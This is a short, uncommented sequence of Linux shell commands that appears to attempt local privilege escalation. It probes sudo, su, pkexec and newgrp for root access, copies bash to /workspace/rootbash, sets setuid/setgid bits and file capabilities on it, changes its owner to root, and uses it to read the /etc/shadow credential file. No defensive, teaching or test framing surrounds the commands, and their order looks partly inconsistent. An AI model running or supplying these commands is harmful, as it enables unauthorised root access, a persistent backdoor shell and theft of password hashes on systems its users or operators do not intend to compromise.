sudo -n id; su -c id root; pkexec id; newgrp root
cp /bin/bash /workspace/rootbash
chmod 6777 /workspace/rootbash
/workspace/rootbash -p -c 'cat /etc/shadow'
setcap cap_setuid+ep /workspace/rootbash
chown root /workspace/rootbash
